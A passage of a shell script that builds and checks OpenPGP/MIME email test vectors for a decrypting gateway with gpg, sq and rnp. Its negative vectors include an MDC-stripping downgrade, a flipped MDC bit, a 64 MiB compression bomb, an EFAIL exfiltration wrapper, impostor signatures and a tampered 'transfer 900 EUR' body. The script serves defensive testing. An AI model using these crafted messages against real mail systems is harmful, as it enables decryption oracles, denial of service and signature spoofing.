n=gpg-pgpmime-encrypted
outer msg-plain.eml $n
genc inner-plain.mime "$T/$n.asc" -r "$ALICE"
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=gpg-pgpmime-signed-encrypted                       # RFC 3156 §6.2 combined
outer msg-plain.eml $n
genc inner-plain.mime "$T/$n.asc" -r "$ALICE" --sign -u "$ALICE" --digest-algo SHA256
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=gpg-pgpmime-nested                                 # RFC 3156 §6.1 sign, then encrypt
outer msg-plain.eml $n
gsign "$G" "$ALICE" SHA256 inner-plain.mime "$T/$n.sig"
pgpmime_signed $n.signed inner-plain.mime "$T/$n.sig" pgp-sha256
H strip-mv "$T/$n.signed.ent" $n.dec                 # the expected decrypted entity
genc $n.dec "$T/$n.asc" -r "$ALICE"
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=gpg-pgpmime-signed-encrypted-attach
outer msg-attach.eml $n
genc inner-attach.mime "$T/$n.asc" -r "$ALICE" --sign -u "$ALICE" --digest-algo SHA256
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=gpg-pgpmime-encrypted-multi
outer msg-plain.eml $n
genc inner-plain.mime "$T/$n.asc" -r "$ALICE" -r "$BOB" -r "$CAROL"
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

inline_text() { # WHAT
  printf 'Hi Bob,\n\nthis message is %s.\n' "$1"
  printf -- '- a line that starts with a dash gets dash-escaped\n'
  printf 'From the desk of Alice: transfer 100 EUR to account 12345.\n\nRegards,\nAlice\n'
}
n=gpg-inline-clearsigned
outer msg-plain.eml $n "" "" "Inline clearsigned"
inline_text 'signed inline (PGP/INLINE, cleartext signature)' > "$T/$n.txt"
GNUPGHOME=$G "${GP[@]}" --armor --digest-algo SHA256 -u "$ALICE" --clearsign -o "$T/$n.body" \
    < "$T/$n.txt" 2>"$T/gerr" || stf "clearsign"
H mktext "$T/$n.body" "$T/$n.ent"; final $n "$T/$n.ent"

n=gpg-inline-encrypted
outer msg-plain.eml $n "" "" "Inline encrypted"
inline_text 'encrypted and signed inline (PGP/INLINE)' > "$T/$n.txt"
H crlf "$T/$n.txt" $n.dec
genc $n.dec "$T/$n.asc" -r "$ALICE" --sign -u "$ALICE" --digest-algo SHA256
H mktext "$T/$n.asc" "$T/$n.ent"; final $n "$T/$n.ent"

n=gpg-pgpmime-signed-encrypted-rsa
outer msg-plain.eml $n
genc inner-plain.mime "$T/$n.asc" -r "$ALICE_RSA" --sign -u "$ALICE_RSA" --digest-algo SHA256
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

echo "== sq (positive)"
# sq 0.27 signs with SHA-512 (no option to choose), adds a salt notation, and encrypts with
# its default "pad" compression (a ZIP compressed packet padded with the Padmé scheme)
n=sq-pgpmime-signed
outer msg-plain.eml $n
sq sign --detached --signer-key alice.sec.asc -o "$T/$n.sig" inner-plain.mime 2>"$T/sqerr" \
    || { cat "$T/sqerr" >&2; die "sq sign"; }
pgpmime_signed $n inner-plain.mime "$T/$n.sig" pgp-sha512; final $n "$T/$n.ent"

n=sq-pgpmime-signed-encrypted
outer msg-plain.eml $n
sq encrypt --recipient-cert alice.pub.asc --signer-key alice.sec.asc -o "$T/$n.asc" \
    inner-plain.mime 2>"$T/sqerr" || { cat "$T/sqerr" >&2; die "sq encrypt"; }
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=sq-pgpmime-signed-carol
outer msg-plain.eml $n 'Carol <carol@example.com>'
sq sign --detached --signer-key carol.sec.pgp -o "$T/$n.sig" inner-plain.mime 2>"$T/sqerr" \
    || { cat "$T/sqerr" >&2; die "sq sign carol"; }
pgpmime_signed $n inner-plain.mime "$T/$n.sig" pgp-sha512; final $n "$T/$n.ent"

echo "== rnp (positive)"
n=rnp-pgpmime-signed-encrypted
outer msg-plain.eml $n
rnp --sign --encrypt -r "$ALICE" -u "$ALICE" --hash SHA256 --armor --output "$T/$n.asc" - \
    < inner-plain.mime 2>"$T/rnp.err" || { cat "$T/rnp.err" >&2; die "rnp --sign --encrypt"; }
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=rnp-pgpmime-signed-dave
outer msg-plain.eml $n 'Dave <dave@example.com>'
rnp --sign --detach -u "$DAVE" --hash SHA256 --armor --output "$T/$n.sig" - \
    < inner-plain.mime 2>"$T/rnp.err" || { cat "$T/rnp.err" >&2; die "rnp --sign --detach"; }
pgpmime_signed $n inner-plain.mime "$T/$n.sig" pgp-sha256; final $n "$T/$n.ent"

echo "== negative"
n=sed-encrypted                  # --rfc2440: Symmetrically Encrypted Data (tag 9), no MDC
outer msg-plain.eml $n
genc inner-plain.mime "$T/$n.asc" -r "$ALICE" --rfc2440 --cipher-algo AES
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=mdc-altered                    # SEIPDv1, one bit flipped inside the encrypted MDC packet
outer msg-plain.eml $n
genc inner-plain.mime "$T/$n.orig.asc" -r "$ALICE"
read -r MDC_OFF MDC_LEN MDC_IDX MDC_LKIND < <(H mdcflip "$T/$n.orig.asc" "$T/$n.asc" 11 0x01)
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=mdc-stripped                   # SEIPDv1 rewritten as SED (tag 9): MDC-stripping downgrade
outer msg-plain.eml $n
genc inner-plain.mime "$T/$n.orig.asc" -r "$ALICE"
STRIP_INFO=$(H mdcstrip "$T/$n.orig.asc" "$T/$n.asc")
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=compression-bomb               # 64 MiB of zero bytes behind a small MIME header, zlib -9
outer msg-plain.eml $n "" "" "Compression bomb"
{ printf 'Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary\r\n\r\n'
  head -c 67108864 /dev/zero; } > "$T/$n.plain"
genc "$T/$n.plain" "$T/$n.asc" -r "$ALICE" --sign -u "$ALICE" --digest-algo SHA256 \
    --compress-algo zlib --compress-level 9
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=sha1-signed
outer msg-plain.eml $n
gsign "$G" "$ALICE" SHA1 inner-plain.mime "$T/$n.sig"
pgpmime_signed $n inner-plain.mime "$T/$n.sig" pgp-sha1; final $n "$T/$n.ent"

n=wrong-uid-signed               # From alice, signed by mallory's own key
outer msg-plain.eml $n
gsign "$G" "$MALLORY" SHA256 inner-plain.mime "$T/$n.sig"
pgpmime_signed $n inner-plain.mime "$T/$n.sig" pgp-sha256; final $n "$T/$n.ent"

n=impostor-signed                # From alice, signed by an unknown key claiming alice's UID
outer msg-plain.eml $n
gsign "$M" "$IMPOSTOR" SHA256 inner-plain.mime "$T/$n.sig"
pgpmime_signed $n inner-plain.mime "$T/$n.sig" pgp-sha256; final $n "$T/$n.ent"

n=expired-signed                 # signed on 2020-06-01, while the key was valid
outer msg-plain.eml $n 'expired@example.com'
gsign "$E" "$EXPIRED" SHA256 inner-plain.mime "$T/$n.sig" --faked-system-time '20200601T120000!'
pgpmime_signed $n inner-plain.mime "$T/$n.sig" pgp-sha256; final $n "$T/$n.ent"

n=revoked-signed                 # signed before the key was revoked
outer msg-plain.eml $n 'revoked@example.com'
gsign "$X" "$REVOKED" SHA256 inner-plain.mime "$T/$n.sig"
pgpmime_signed $n inner-plain.mime "$T/$n.sig" pgp-sha256; final $n "$T/$n.ent"
# now revoke: gpg 2.2 wrote $GNUPGHOME/openpgp-revocs.d/<FPR>.rev with the armor line
# prefixed by ':' (so that it is not imported by accident)
REV="$X/openpgp-revocs.d/$REVOKED.rev"
[ -f "$REV" ] || die "no revocation certificate $REV"
sed 's/^:-----BEGIN PGP PUBLIC KEY BLOCK-----/-----BEGIN PGP PUBLIC KEY BLOCK-----/' "$REV" > "$T/revoked.rev"
GNUPGHOME=$X gpg --batch --no-tty --status-fd 3 --import "$T/revoked.rev" 3>"$T/status" 2>"$T/gerr" \
    || stf "import revocation"
gexport "$X" "$REVOKED" revoked

n=wrong-key-encrypted            # to bob only
outer msg-plain.eml $n
genc inner-plain.mime "$T/$n.asc" -r "$BOB"
pgpmime_enc $n "$T/$n.asc"; final $n "$T/$n.ent"

n=embedded-armor                 # an armored block in the middle of a text/plain body
outer msg-plain.eml $n "" "" "Forwarded block"
printf 'This text was encrypted to alice and pasted into a plain message.\r\n' > "$T/$n.secret"
genc "$T/$n.secret" "$T/$n.asc" -r "$ALICE"
{ printf 'Hi Bob,\n\nsee the block below, which I am quoting from an old thread.\n\n'
  cat "$T/$n.asc"
  printf '\nThe text after the block is mine. Nothing above should be decrypted.\n\nRegards,\nAlice\n'
} > "$T/$n.body"
H mktext "$T/$n.body" "$T/$n.ent"; final $n "$T/$n.ent"

n=efail-wrapped                  # EFAIL direct exfiltration
outer msg-plain.eml $n
H inner gpg-pgpmime-encrypted.eml "$T/$n.encent"     # Content-Type + body of the §4 entity
H mkefail "$T/$n.encent" "$(bnd efail)" "$T/$n.ent"; final $n "$T/$n.ent"

n=tampered-signed
outer msg-plain.eml $n
H tamper-body gpg-pgpmime-signed.eml "$T/$n.tmp" 'transfer 100 EUR' 'transfer 900 EUR'
H retitle "$T/$n.tmp" "$T/$n.hdr" $n.eml

###########################################################################
# 4. checks
###########################################################################
echo "== key checks"
# every key is v4 (tag:version:algo); no peer here makes v5/v6 keys
declare -A ALGOS=(
  [alice.sec.asc]='5:4:22 7:4:18' [alice.pub.asc]='6:4:22 14:4:18' [alice-protected.sec.asc]='5:4:22 7:4:18'
  [alice-rsa.sec.asc]='5:4:1 7:4:1' [alice-rsa.pub.asc]='6:4:1 14:4:1'
  [bob.sec.asc]='5:4:1 7:4:1' [bob.pub.asc]='6:4:1 14:4:1'
  [carol.sec.pgp]='5:4:22 7:4:22 7:4:22 7:4:18' [carol.pub.pgp]='6:4:22 14:4:22 14:4:22 14:4:18'
  [carol.sec.asc]='5:4:22 7:4:22 7:4:22 7:4:18' [carol.pub.asc]='6:4:22 14:4:22 14:4:22 14:4:18'
  [dave.sec.asc]='5:4:1 7:4:1' [dave.pub.asc]='6:4:1 14:4:1'
  [mallory.sec.asc]='5:4:22 7:4:18' [mallory.pub.asc]='6:4:22 14:4:18'
  [mallory-as-alice.sec.asc]='5:4:22 7:4:18' [mallory-as-alice.pub.asc]='6:4:22 14:4:18'
  [expired.sec.asc]='5:4:22 7:4:18' [expired.pub.asc]='6:4:22 14:4:18'
  [revoked.sec.asc]='5:4:22 7:4:18' [revoked.pub.asc]='6:4:22 14:4:18'
)
for f in "${!ALGOS[@]}"; do
  got=$(H keyinfo "$f")
  [ "$got" = "${ALGOS[$f]}" ] || die "$f: key packets are '$got', expected '${ALGOS[$f]}'"
  ok
done
cmp -s carol.sec.pgp <(sq dearmor carol.sec.asc 2>/dev/null) || die "carol.sec.pgp != dearmor(carol.sec.asc)"
cmp -s carol.pub.pgp <(sq dearmor carol.pub.asc 2>/dev/null) || die "carol.pub.pgp != dearmor(carol.pub.asc)"
# secret keys are unprotected, except alice-protected
for f in *.sec.asc carol.sec.pgp; do
  GNUPGHOME=$G gpg --batch --list-packets "$f" > "$T/lp" 2>/dev/null || true
  if [ "$f" = alice-protected.sec.asc ]; then
    grep -q 'iter+salt S2K' "$T/lp" && grep -q 'protected\]' "$T/lp" || die "$f is not protected"
  else
    ! grep -q 'protected\]' "$T/lp" || die "$f is passphrase-protected"
  fi
  ok
done
# uids, expiry, revocation, as gpg sees them (--show-keys does not import)
showkeys() { GNUPGHOME=$G gpg --batch --with-colons --show-keys "$1" 2>/dev/null; }
for x in "alice.pub.asc:Alice <alice@example.com>:$ALICE" "alice-rsa.pub.asc:alice@example.com:$ALICE_RSA" \
         "bob.pub.asc:Bob <bob@example.org>:$BOB" "carol.pub.asc:Carol <carol@example.com>:$CAROL" \
         "dave.pub.asc:Dave <dave@example.com>:$DAVE" "mallory.pub.asc:Mallory <mallory@evil.test>:$MALLORY" \
         "mallory-as-alice.pub.asc:Alice <alice@example.com>:$IMPOSTOR" \
         "expired.pub.asc:expired@example.com:$EXPIRED" "revoked.pub.asc:revoked@example.com:$REVOKED"; do
  IFS=: read -r f uid fpr <<<"$x"
  showkeys "$f" > "$T/sk"
  [ "$(awk -F: '$1 == "uid" { print $10 }' "$T/sk")" = "$uid" ] || die "$f: uid is not '$uid'"
  [ "$(awk -F: '/^fpr/ { print $10; exit }' "$T/sk")" = "$fpr" ] || die "$f: fingerprint is not $fpr"
  ok
done
[ "$ALICE" != "$IMPOSTOR" ] || die "impostor has alice's fingerprint"
[ "$(showkeys expired.pub.asc | awk -F: '$1 == "pub" { print $2 }')" = e ] || die "expired.pub.asc is not expired"
[ "$(showkeys expired.pub.asc | awk -F: '$1 == "pub" { print $6 }')" = 1577836800 ] || die "expired: created != 2020-01-01"
[ "$(showkeys revoked.pub.asc | awk -F: '$1 == "pub" { print $2 }')" = r ] || die "revoked.pub.asc is not revoked"
GNUPGHOME=$G gpg --batch --list-packets revoked.pub.asc 2>/dev/null | grep -q 'sigclass 0x20' \
    || die "revoked.pub.asc has no key revocation signature (0x20)"
GNUPGHOME=$G gpg --batch --list-packets revoked.sec.asc 2>/dev/null | grep -q 'sigclass 0x20' \
    || die "revoked.sec.asc has no key revocation signature (0x20)"
ok; ok; ok; ok

# the gateway's view: alice's secret keys + the correspondents' certificates.  NOT known:
# mallory-as-alice (the impostor).
for k in alice.sec.asc alice-rsa.sec.asc bob.pub.asc carol.pub.asc dave.pub.asc mallory.pub.asc \
         expired.pub.asc revoked.pub.asc; do
  GNUPGHOME=$V gpg --batch --no-tty --import "$k" 2>"$T/gerr" || stf "V import $k"
done
GNUPGHOME=$V gpg --batch --list-secret-keys "$ALICE" "$ALICE_RSA" >/dev/null 2>&1 || die "V: no alice secret"
! GNUPGHOME=$V gpg --batch --list-keys "$IMPOSTOR" >/dev/null 2>&1 || die "V knows the impostor"
# alice-protected.sec.asc is alice's key and opens with alice.pass
printf '%s\n' "$(cat alice.pass)" | GNUPGHOME=$P2 gpg --batch --no-tty --pinentry-mode loopback \
    --passphrase-fd 0 --import alice-protected.sec.asc 2>"$T/gerr" || stf "P2 import alice-protected"

echo "== positive vectors"
must_verify_mime gpg-pgpmime-signed.eml "$ALICE" inner-plain.mime
[ "$(validsig_class)" = 00 ] || die "gpg-pgpmime-signed: not a binary (0x00) signature"
must_decrypt "$(enc_of gpg-pgpmime-encrypted.eml a)" inner-plain.mime -
printf '%s\n' "$PASS" > "$T/pp"
GNUPGHOME=$P2 gpg --batch --no-tty --yes --status-fd 3 --pinentry-mode loopback --passphrase-file "$T/pp" \
    -o "$T/dec.out" --decrypt "$T/a.asc" 3>"$T/status" 2>"$T/gerr" || stf "alice-protected: decrypt"
st DECRYPTION_OKAY && cmp -s "$T/dec.out" inner-plain.mime || stf "alice-protected: decrypt"; ok
if GNUPGHOME=$P2 gpg --batch --no-tty --pinentry-mode loopback --passphrase wrong-pass \
    -o /dev/null --decrypt "$T/a.asc" 2>/dev/null; then die "alice-protected opens with a wrong passphrase"; fi; ok
must_decrypt "$(enc_of gpg-pgpmime-signed-encrypted.eml a)" inner-plain.mime "$ALICE"
must_decrypt "$(enc_of gpg-pgpmime-nested.eml a)" gpg-pgpmime-nested.dec -
must_verify_mime "$T/dec.out" "$ALICE" inner-plain.mime
must_decrypt "$(enc_of gpg-pgpmime-signed-encrypted-attach.eml a)" inner-attach.mime "$ALICE"
must_decrypt "$(enc_of gpg-pgpmime-encrypted-multi.eml a)" inner-plain.mime -
[ "$(grep -c '^\[GNUPG:\] ENC_TO ' "$T/status")" = 3 ] || stf "multi: not 3 recipients"
must_decrypt "$T/a.asc" inner-plain.mime - "$G"                      # bob's key works too (G)
rm -f "$T/dec.out"; sq decrypt --recipient-key carol.sec.pgp -o "$T/dec.out" "$T/a.asc" 2>"$T/sqerr" \
    || { cat "$T/sqerr" >&2; die "multi: sq cannot decrypt with carol's key"; }
cmp -s "$T/dec.out" inner-plain.mime || die "multi: carol's decryption differs"; ok
H body gpg-inline-clearsigned.eml "$T/b"
grep -q '^- - a line that starts' "$T/b" || die "clearsigned: no dash-escaping"
vgpg "$V" -o "$T/cs.out" --verify "$T/b" || stf "gpg-inline-clearsigned: --verify failed"
check_goodsig "$ALICE"; [ "$(validsig_class)" = 01 ] || die "clearsigned: not a text signature"; ok
H body gpg-inline-encrypted.eml "$T/b"
head -c 27 "$T/b" | grep -q '^-----BEGIN PGP MESSAGE-----' || die "inline-encrypted: body does not start with the armor"
must_decrypt "$T/b" gpg-inline-encrypted.dec "$ALICE"
must_decrypt "$(enc_of gpg-pgpmime-signed-encrypted-rsa.eml a)" inner-plain.mime "$ALICE_RSA"
grep -q '^\[GNUPG:\] DECRYPTION_KEY .* '"$ALICE_RSA" "$T/status" || stf "rsa: not decrypted with alice-rsa"
must_verify_mime sq-pgpmime-signed.eml "$ALICE" inner-plain.mime
must_decrypt "$(enc_of sq-pgpmime-signed-encrypted.eml a)" inner-plain.mime "$ALICE"
must_verify_mime sq-pgpmime-signed-carol.eml "$CAROL" inner-plain.mime
must_decrypt "$(enc_of rnp-pgpmime-signed-encrypted.eml a)" inner-plain.mime "$ALICE"
must_verify_mime rnp-pgpmime-signed-dave.eml "$DAVE" inner-plain.mime
# cross-checks with the other peers (sq verifies gpg's and rnp's, rnp decrypts gpg's)
H sigparts gpg-pgpmime-signed.eml "$T/c" "$T/s"
sq verify --detached "$T/s" --signer-cert alice.pub.asc "$T/c" >/dev/null 2>"$T/sqerr" \
    || { cat "$T/sqerr" >&2; die "sq does not verify gpg-pgpmime-signed"; }; ok
H sigparts rnp-pgpmime-signed-dave.eml "$T/c" "$T/s"
sq verify --detached "$T/s" --signer-cert dave.pub.asc "$T/c" >/dev/null 2>"$T/sqerr" \
    || { cat "$T/sqerr" >&2; die "sq does not verify rnp-pgpmime-signed-dave"; }; ok
rnp --decrypt --overwrite --output "$T/dec.out" "$(enc_of gpg-pgpmime-signed-encrypted.eml a)" >/dev/null 2>&1 \
    || die "rnp does not decrypt gpg-pgpmime-signed-encrypted"
cmp -s "$T/dec.out" inner-plain.mime || die "rnp: decrypted data differs"; ok

echo "== negative vectors"
a=$(enc_of sed-encrypted.eml a)
[ "$(H tags "$a")" = "1 9" ] || die "sed-encrypted: packets are '$(H tags "$a")', not PKESK + SED (1 9)"
must_not_decrypt "$a" DECRYPTION_FAILED; note sed-encrypted

vgpg "$V" -o /dev/null --decrypt "$T/mdc-altered.orig.asc" && st DECRYPTION_OKAY \
    || stf "mdc-altered: the original does not decrypt"              # control
a=$(enc_of mdc-altered.eml a)
[ "$(H tags "$a")" = "1 18" ] || die "mdc-altered: packets are not PKESK + SEIPD"
must_not_decrypt "$a" 'BADMDC|DECRYPTION_FAILED'
note mdc-altered
st GOODMDC && die "mdc-altered: GOODMDC"

[ "$(H tags "$T/mdc-stripped.orig.asc")" = "1 18" ] || die "mdc-stripped: original is not PKESK + SEIPD"
a=$(enc_of mdc-stripped.eml a)
[ "$(H tags "$a")" = "1 9" ] || die "mdc-stripped: packets are not PKESK + SED"
must_not_decrypt "$a" DECRYPTION_FAILED; note mdc-stripped

a=$(enc_of compression-bomb.eml a)
vgpg "$V" -o "$T/bomb.out" --decrypt "$a" || stf "compression-bomb: gpg does not decrypt it"
st DECRYPTION_OKAY || stf "compression-bomb: no DECRYPTION_OKAY"; check_goodsig "$ALICE"; note compression-bomb
cmp -s "$T/bomb.out" "$T/compression-bomb.plain" || die "compression-bomb: plaintext differs"
BOMB_PLAIN=$(stat -c %s "$T/bomb.out"); rm -f "$T/bomb.out" "$T/compression-bomb.plain"
BOMB_BIN=$(H binlen "$a"); BOMB_EML=$(stat -c %s compression-bomb.eml)
BOMB_RATIO=$((BOMB_PLAIN / BOMB_BIN))
[ "$BOMB_RATIO" -gt 500 ] || die "compression-bomb: ratio only $BOMB_RATIO:1"
[ "$BOMB_EML" -lt 200000 ] || die "compression-bomb.eml is $BOMB_EML bytes"
vgpg "$V" --list-packets "$a" >"$T/lp" || true
grep -q 'compressed packet: algo=2' "$T/lp" || die "compression-bomb: not ZLIB"; ok

must_verify_mime sha1-signed.eml "$ALICE" inner-plain.mime         # gpg 2.2 ACCEPTS SHA-1 ...
[ "$(validsig_hash)" = 2 ] || die "sha1-signed: hash is not SHA-1"; note sha1-signed
H sigparts sha1-signed.eml "$T/c" "$T/s"                           # ... sq 0.27 refuses it
if sq verify --detached "$T/s" --signer-cert alice.pub.asc "$T/c" >/dev/null 2>"$T/sqerr"; then
  die "sha1-signed: sq accepts it"; fi
grep -q 'SHA1 is not considered secure' "$T/sqerr" || { cat "$T/sqerr" >&2; die "sha1-signed: sq refuses for another reason"; }; ok

must_verify_mime wrong-uid-signed.eml "$MALLORY" inner-plain.mime   # crypto fine, signer != From
grep -q '^\[GNUPG:\] GOODSIG [0-9A-F]* Mallory <mallory@evil.test>' "$T/status" || stf "wrong-uid: not mallory's uid"
note wrong-uid-signed

H sigparts impostor-signed.eml "$T/c" "$T/s"
if vgpg "$V" --verify "$T/s" "$T/c"; then stf "impostor-signed: verifies in the gateway's keyring"; fi
st 'NO_PUBKEY' && st 'ERRSIG' && ! st 'GOODSIG|VALIDSIG' || stf "impostor-signed: not NO_PUBKEY"; ok; note impostor-signed
GNUPGHOME=$G gpg --batch --dearmor -o "$T/imp.gpg" mallory-as-alice.pub.asc
gpgv --status-fd 3 --keyring "$T/imp.gpg" "$T/s" "$T/c" 3>"$T/status" 2>"$T/gerr" \
    || stf "impostor-signed: control (gpgv with the impostor's cert) fails"
grep -q "^\[GNUPG:\] GOODSIG [0-9A-F]* Alice <alice@example.com>" "$T/status" || stf "impostor control"
[ "$(validsig_primary)" = "$IMPOSTOR" ] || stf "impostor control fpr"; ok

H sigparts expired-signed.eml "$T/c" "$T/s"
vgpg "$V" --verify "$T/s" "$T/c" || true
st EXPKEYSIG && ! st GOODSIG || stf "expired-signed: not EXPKEYSIG"; ok; note expired-signed
EXP_SIGTIME=$(awk '$2 == "VALIDSIG" { print $4 }' "$T/status")
vgpg "$V" --faked-system-time '20200701T000000!' --verify "$T/s" "$T/c" || stf "expired control"
check_goodsig "$EXPIRED"; ok                                       # control: valid in July 2020

H sigparts revoked-signed.eml "$T/c" "$T/s"
vgpg "$V" --verify "$T/s" "$T/c" || true
st REVKEYSIG && ! st GOODSIG || stf "revoked-signed: not REVKEYSIG"; ok; note revoked-signed

a=$(enc_of wrong-key-encrypted.eml a)
must_not_decrypt "$a" 'NO_SECKEY'
st DECRYPTION_FAILED || stf "wrong-key: no DECRYPTION_FAILED"; note wrong-key-encrypted
must_decrypt "$a" inner-plain.mime - "$G"                           # control: bob's key

H armorblock embedded-armor.eml "$T/eb.asc"
H body embedded-armor.eml "$T/b"
[ "$(head -c 8 "$T/b")" = "Hi Bob,"$'\r' ] || die "embedded-armor: body starts with the block"
tail -c 10 "$T/b" | grep -q 'Alice' || die "embedded-armor: body ends with the block"
must_decrypt "$T/eb.asc" "$T/embedded-armor.secret" -             # the block itself is live

H efailpart efail-wrapped.eml "$T/ef.ent"
cmp -s "$T/ef.ent" "$T/efail-wrapped.encent" || die "efail-wrapped: part 2 is not the encrypted entity"
H inner gpg-pgpmime-encrypted.eml "$T/ge.ent"
cmp -s "$T/ef.ent" "$T/ge.ent" || die "efail-wrapped: part 2 differs from gpg-pgpmime-encrypted"
printf 'MIME-Version: 1.0\r\n' | cat - "$T/ef.ent" > "$T/ef.eml"
must_decrypt "$(enc_of "$T/ef.eml" a)" inner-plain.mime -           # the part itself is live

H sigparts tampered-signed.eml "$T/c" "$T/s"
grep -q 'transfer 900 EUR' "$T/c" || die "tampered-signed: not tampered"
if vgpg "$V" --verify "$T/s" "$T/c"; then stf "tampered-signed verifies"; fi
st BADSIG && ! st GOODSIG || stf "tampered-signed: not BADSIG"; ok; note tampered-signed

###########################################################################
# 5. final checks, notes
###########################################################################
H nobarelf *.eml *.mime *.dec || die "bare LF/CR in the files above"
for f in *.eml; do
  H outer "$f" /dev/null x "" "" "" 2>/dev/null || die "$f: no header/body split"
  for h in From To Subject Date Message-ID MIME-Version; do
    grep -q "^$h: " "$f" || die "$f: no $h header"
  done
done

{
  echo "# Fingerprints of this run's keys (made by make-openpgp.sh; they change on every run)"
  printf '%-26s %s\n' alice "$ALICE" alice-protected "$ALICE (same key, passphrase in alice.pass)" \
      alice-rsa "$ALICE_RSA" bob "$BOB" carol "$CAROL" dave "$DAVE" mallory "$MALLORY" \
      mallory-as-alice "$IMPOSTOR" expired "$EXPIRED" revoked "$REVOKED"
  echo
  echo "# gpg --show-keys (with subkeys)"
  for f in alice alice-rsa bob carol dave mallory mallory-as-alice expired revoked; do
    GNUPGHOME=$G gpg --batch --show-keys --with-subkey-fingerprints --keyid-format long "$f.pub.asc" 2>/dev/null \
      | sed 's/[[:space:]]*$//'
  done
} > FINGERPRINTS.txt
cat > NOTES.txt <<EOF
How the negative vectors of this run were made (offsets are into the binary, dearmored
OpenPGP message of the application/octet-stream part):
mdc-altered.eml: SEIPDv1 body ($MDC_LEN bytes, $MDC_LKIND length); body byte $MDC_IDX (the 11th
  byte from the end, i.e. inside the encrypted SHA-1 of the MDC packet) = message byte $MDC_OFF, XOR 0x01.
mdc-stripped.eml: $STRIP_INFO; the PKESK is unchanged.
compression-bomb.eml: $BOMB_PLAIN plaintext bytes, $BOMB_BIN bytes of OpenPGP (binary), $BOMB_EML bytes
  of .eml; ratio $BOMB_RATIO:1 against the binary message. ZLIB (algo 2), level 9.
expired-signed.eml: signature created $EXP_SIGTIME (UTC), the key expires 2020-12-31 (created 2020-01-01, 1y).
tampered-signed.eml: copy of gpg-pgpmime-signed.eml, "transfer 100 EUR" -> "transfer 900 EUR" in the signed part.

gpg 2.2 --status-fd keywords in the gateway's keyring (alice's secret keys + the certs of
bob, carol, dave, mallory, expired, revoked; KEY_CONSIDERED, NEWSIG, SIG_ID, NOTATION_*,
PLAINTEXT*, TRUST_*, DECRYPTION_KEY, BEGIN/END_DECRYPTION, ERROR left out):
EOF
for k in $(printf '%s\n' "${!GSTAT[@]}" | sort); do printf '%-24s %s\n' "$k:" "${GSTAT[$k]}"; done >> NOTES.txt
size=$(du -cb "$O" | tail -1 | cut -f1)
[ "$size" -lt 2000000 ] || die "vectors too big: $size bytes"
echo "== OK: $(ls "$O" | wc -l) files, $size bytes, $CHECKS checks passed"
